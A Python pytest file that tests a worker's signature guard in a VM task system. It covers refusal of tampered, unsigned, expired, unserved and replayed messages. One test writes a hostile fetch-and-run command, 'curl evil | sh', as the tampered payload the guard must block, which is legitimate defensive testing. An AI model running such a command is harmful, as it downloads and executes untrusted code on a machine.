"""remote_tasks.guard and the task bodies: a worker runs only what the controller signed,
for the VMs it serves; what it refuses is counted, and reported only when it can be
attributed (a genuine message for a VM it does not serve ends Failed/MessageRefused)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from prometheus_client import REGISTRY

from remote_tasks import tasks
from remote_tasks.execute import CommandExecutor
from remote_tasks.guard import Guard
from tests.fakes import AttemptState
from vmfleet import settings
from vmfleet.api.constants import TASK_CHECK_VM, TASK_EXECUTE, TASK_TERMINATE, TASK_TRANSFER
from vmfleet.api.envelope import Envelope, Target, terminate_body
from vmfleet.api.reports import AttemptReport, Event, read_report
from vmfleet.api.served import Served
from vmfleet.api.signing import Refusal, Signer, Verifier, generate_private_key, public_pem

KEY = generate_private_key()
SIGNER = Signer(KEY, 360)
SERVED = Served.of("team-a", [("vm1", "vm1-ssh")])
GUARD = Guard(Verifier(KEY.public_key()), SERVED)


def envelope(namespace: str = "team-a", vm: str = "vm1", secret: str = "vm1-ssh",
             **extra: Any) -> Envelope:
    return Envelope(namespace, "c", "uid-1", vm, 1, "", {"command": "touch /tmp/ran"},
                    target=Target(vm, "127.0.0.1", 22, "u", secret), **extra)


def refused(reason: str) -> float:
    return REGISTRY.get_sample_value("vmfleet_messages_refused_total", {"reason": reason}) or 0.0


class Recorder:
    """The executor as the task bodies see it: records what would run."""

    def __init__(self) -> None:
        self.state = AttemptState()
        self.ran: list[Envelope] = []
        self.terminated: list[int] = []
        self.real = CommandExecutor(self.state, None, Path("/nonexistent"),  # type: ignore[arg-type]
                                    conf=settings.Settings(heartbeat_seconds=0))

    def execute(self, env: Envelope, worker: str) -> str:
        self.ran.append(env)
        return "Succeeded"

    def refuse(self, env: Envelope, worker: str, why: Any) -> str:
        return self.real.refuse(env, worker, why)

    def terminate_attempt(self, target: Target, pgid: int, *_: Any) -> bool:
        self.terminated.append(pgid)
        return True


@pytest.fixture
def worker(monkeypatch: pytest.MonkeyPatch) -> Recorder:
    recorder = Recorder()
    monkeypatch.setattr(tasks, "guard", lambda: GUARD)
    monkeypatch.setattr(tasks, "executor", lambda: recorder)
    monkeypatch.setattr(tasks, "vm_slot", _no_slot)
    return recorder


class _no_slot:
    def __init__(self, *_: Any) -> None: ...
    def __enter__(self) -> None: ...
    def __exit__(self, *_: Any) -> None: ...


def run_task(task: Any, message: Any) -> Any:
    return task.apply(args=[message]).get()


def test_a_signed_message_for_a_served_vm_runs(worker: Recorder) -> None:
    assert run_task(tasks.execute_on_vm, SIGNER.sign(TASK_EXECUTE, envelope().to_message())) \
        == "Succeeded"
    assert [e.uid for e in worker.ran] == ["uid-1"]


def test_an_altered_message_never_runs_and_reports_nothing(worker: Recorder) -> None:
    message = SIGNER.sign(TASK_EXECUTE, envelope().to_message())
    message["body"]["spec"]["command"] = "curl evil | sh"
    before = refused(Refusal.BAD_SIGNATURE)
    assert run_task(tasks.execute_on_vm, message) == "refused"
    assert worker.ran == [] and worker.state.reports == [] and worker.state.claims == []
    assert refused(Refusal.BAD_SIGNATURE) == before + 1


def test_an_unsigned_envelope_as_before_signatures_never_runs(worker: Recorder) -> None:
    assert run_task(tasks.execute_on_vm, envelope().to_message()) == "refused"
    assert worker.ran == [] and worker.state.reports == []


def test_an_expired_message_is_dropped_without_a_report(worker: Recorder) -> None:
    message = Signer(KEY, -1).sign(TASK_EXECUTE, envelope().to_message())
    before = refused(Refusal.EXPIRED)
    assert run_task(tasks.execute_on_vm, message) == "refused"
    assert worker.ran == [] and worker.state.reports == []
    assert refused(Refusal.EXPIRED) == before + 1


def test_another_namespaces_message_is_dropped_without_a_claim_or_report(worker: Recorder) -> None:
    """Team B's genuine message on this worker's queue: refused and counted, but not
    reported (this worker's broker user reaches none of B's keys); B's attempt stays for
    B's own worker."""
    before = refused(Refusal.NOT_SERVED)
    message = SIGNER.sign(TASK_EXECUTE, envelope(namespace="team-b").to_message())
    assert run_task(tasks.execute_on_vm, message) == "refused"
    assert worker.ran == [] and worker.state.claims == [] and worker.state.reports == []
    assert refused(Refusal.NOT_SERVED) == before + 1


@pytest.mark.parametrize("env, reason", [
    (envelope(vm="vm2", secret="vm2-ssh"), Refusal.NOT_SERVED),
    (envelope(secret="db-admin-ssh"), Refusal.WRONG_SECRET),
])
def test_a_genuine_message_for_a_vm_not_served_fails_its_attempt(
        worker: Recorder, env: Envelope, reason: str) -> None:
    before = refused(reason)
    assert run_task(tasks.execute_on_vm, SIGNER.sign(TASK_EXECUTE, env.to_message())) == "refused"
    assert worker.ran == []
    assert worker.state.claims == [("uid-1", env.vm, 1, worker.state.claims[0][3])]  # claimed:
    (body,) = worker.state.reports  # runs nowhere else, and is not sent again
    report = read_report(body)
    assert isinstance(report, AttemptReport) and report.event == Event.FINISHED
    assert (report.fields.phase, report.fields.reason) == ("Failed", "MessageRefused")
    assert refused(reason) == before + 1


def test_a_transfer_naming_a_vm_not_served_fails_its_attempt(worker: Recorder) -> None:
    other = Target("db", "127.0.0.2", 22, "u", "db-ssh")
    env = envelope(targets={"vm1": Target("vm1", "127.0.0.1", 22, "u", "vm1-ssh"), "db": other})
    assert run_task(tasks.transfer_file, SIGNER.sign(TASK_TRANSFER, env.to_message())) == "refused"
    (body,) = worker.state.reports
    assert read_report(body).fields.reason == "MessageRefused"  # type: ignore[union-attr]


def test_terminate_and_probe_run_only_for_served_vms(worker: Recorder) -> None:
    served = Target("vm1", "127.0.0.1", 22, "u", "vm1-ssh")
    ok = SIGNER.sign(TASK_TERMINATE, terminate_body("team-a", served, 42, "m", None))
    assert run_task(tasks.terminate_attempt, ok) is True and worker.terminated == [42]
    for body in (terminate_body("team-b", served, 43, "m", None),
                 terminate_body("team-a", Target("vm1", "h", 22, "u", "x-ssh"), 44, "m", None)):
        assert run_task(tasks.terminate_attempt, SIGNER.sign(TASK_TERMINATE, body)) is False
    # A terminate body replayed as a command is refused: the task name is signed.
    assert run_task(tasks.execute_on_vm, ok | {"task": TASK_EXECUTE}) == "refused"
    probe = {"namespace": "team-b", "vm": "vm1", "target": served.to_message()}
    assert run_task(tasks.check_vm_status, SIGNER.sign(TASK_CHECK_VM, probe)) == "refused"
    assert worker.terminated == [42] and worker.state.reports == []


def test_the_guard_reads_the_key_and_the_served_set_from_settings(tmp_path: Path) -> None:
    conf = settings.Settings(verify_key=public_pem(KEY.public_key()), served_vms=SERVED.encode())
    guard = Guard.from_settings(conf)
    assert guard.open(SIGNER.sign(TASK_EXECUTE, {"a": 1}), TASK_EXECUTE) == {"a": 1}
    assert guard.served == SERVED
    (tmp_path / "pub").write_text(public_pem(KEY.public_key()))
    assert Guard.from_settings(settings.Settings(verify_key_file=str(tmp_path / "pub"))).verifier.key
    assert Guard.from_settings(settings.Settings()).verifier.key is None  # refuses everything


def test_a_worker_without_its_key_yet_leaves_the_message_queued(monkeypatch: pytest.MonkeyPatch) -> None:
    from celery.exceptions import Reject

    monkeypatch.setattr(tasks, "guard", lambda: Guard(Verifier(None), SERVED))
    monkeypatch.setattr(tasks.time, "sleep", lambda seconds: None)
    with pytest.raises(Reject) as rejected:
        tasks._envelope(TASK_EXECUTE, SIGNER.sign(TASK_EXECUTE, envelope().to_message()))
    assert rejected.value.requeue is True
